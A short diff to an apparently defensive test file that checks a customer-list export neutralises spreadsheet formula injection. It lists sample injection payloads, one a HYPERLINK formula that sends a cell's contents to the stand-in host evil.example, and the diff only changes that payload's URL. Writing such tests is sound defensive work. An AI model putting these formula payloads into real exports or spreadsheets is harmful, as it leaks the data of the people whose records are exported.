@@ -47,7 +47,7 @@ describe('the export of the customer list', () => {
   });
 
   it('holds no cell that a spreadsheet would run, and every cell as it was written otherwise', async () => {
-    const formulas = ['=1+1', '+39 011', '-2+3', '@SUM(A1)', '=HYPERLINK("http://evil.example?"&A1,"x")', '＝1+1'];
+    const formulas = ['=1+1', '+39 011', '-2+3', '@SUM(A1)', '=HYPERLINK("evil.example?"&A1,"x")', '＝1+1'];
     for (const company of formulas) await rita.customers.create.mutate(aCustomer({ company, city: 'Reggio, "nell’Emilia"; RE' }));
     const { rows } = await exported('?sort=created&direction=asc');
     for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
